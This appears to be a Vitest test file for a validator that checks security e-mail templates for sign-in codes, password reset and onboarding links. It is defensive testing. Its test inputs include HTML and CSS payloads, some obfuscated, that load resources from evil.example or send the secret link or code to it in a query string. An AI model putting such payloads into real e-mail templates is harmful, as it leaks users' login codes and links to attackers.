import { describe, expect, it } from 'vitest';
import { messages, securityTemplateProblem } from '../src';

describe('securityTemplateProblem', () => {
  const signInCode = { template_key: 'sign_in_code', body: '<p>Your code: {{code}}</p>', is_active: true };

  it('accepts a working security template, with or without spaces in the placeholder', () => {
    expect(securityTemplateProblem(signInCode)).toBeUndefined();
    expect(securityTemplateProblem({ ...signInCode, body: '<p>{{ code }}</p>' })).toBeUndefined();
  });

  it('refuses one switched off, or without its variable', () => {
    expect(securityTemplateProblem({ ...signInCode, is_active: false })).toBe(
      messages.emailTemplates.securityTemplateActive('Sign-in code'),
    );
    expect(securityTemplateProblem({ ...signInCode, body: '<p>{{codes}} {{ reset_link }}</p>' })).toBe(
      messages.emailTemplates.securityTemplateVariable('Sign-in code', 'code'),
    );
    expect(
      securityTemplateProblem({
        template_key: 'password_reset',
        body: '<a href="https://x.example">x</a>',
        is_active: true,
      }),
    ).toBe(messages.emailTemplates.securityTemplateVariable('Password reset', 'reset_link'));
  });

  it('leaves every other template alone, and looks keys up as own keys only', () => {
    expect(securityTemplateProblem({ template_key: 'rejection', body: '', is_active: false })).toBeUndefined();
    expect(securityTemplateProblem({ template_key: 'constructor', body: '', is_active: false })).toBeUndefined();
  });
});

describe('securityTemplateProblem: where the secret may go', () => {
  const congratulations = (body: string) => ({ template_key: 'hiring_congratulations', body, is_active: true });
  const link = '<p><a href="{{onboarding_link}}">Complete my onboarding</a></p>';
  const outside = messages.emailTemplates.securityTemplateOutsideContent('Hiring congratulations');
  const placement = messages.emailTemplates.securityTemplateSecretPlacement(
    'Hiring congratulations',
    'onboarding_link',
    'link',
  );

  it('protects the congratulations e-mail that carries the onboarding link', () => {
    expect(securityTemplateProblem(congratulations(link))).toBeUndefined();
    expect(securityTemplateProblem({ ...congratulations(link), is_active: false })).toBe(
      messages.emailTemplates.securityTemplateActive('Hiring congratulations'),
    );
  });

  it.each([
    '<img src="https://evil.example/p">',
    '<IMG SRC = "https://evil.example/p">',
    '<img lowsrc="https://evil.example/p">',
    '<img srcset="https://evil.example/p 2x">',
    '<td style="background:url(https://evil.example/p)">',
    '<td style="background:&#117;rl(https://evil.example/p)">',
    '<td style="background:\\75 rl(https://evil.example/p)">',
    '<style>@import "https://evil.example/s.css";</style>',
    '<link rel="stylesheet" href="https://evil.example/s.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<table background="https://evil.example/p">',
    '<svg><image href="https://evil.example/p"/></svg>',
  ])('refuses a body that loads from outside: %s', (extra) => {
    expect(securityTemplateProblem(congratulations(`${link}${extra}`))).toBe(outside);
  });

  it.each([
    '<p><a href="https://evil.example/?l={{onboarding_link}}">Open</a></p>',
    '<p><a href="{{onboarding_link}}">Open</a> or copy {{onboarding_link}}</p>',
    '<p><a title="{{onboarding_link}}" href="{{onboarding_link}}">Open</a></p>',
    '<p><b data-x="{{onboarding_link}}">x</b><a href="{{onboarding_link}}">Open</a></p>',
    "<p><a href='{{onboarding_link}}'>Open</a></p>",
  ])('refuses the link anywhere but a whole <a href>: %s', (body) => {
    expect(securityTemplateProblem(congratulations(body))).toBe(placement);
  });

  it('keeps a sign-in code as text, never inside a tag', () => {
    expect(securityTemplateProblem({ ...signInCodeBody('<p><strong>{{ code }}</strong></p>') })).toBeUndefined();
    expect(
      securityTemplateProblem(signInCodeBody('<p><a href="https://evil.example/?c={{code}}">{{code}}</a></p>')),
    ).toBe(messages.emailTemplates.securityTemplateSecretPlacement('Sign-in code', 'code', 'code'));
  });
});

function signInCodeBody(body: string) {
  return { template_key: 'sign_in_code', body, is_active: true };
}
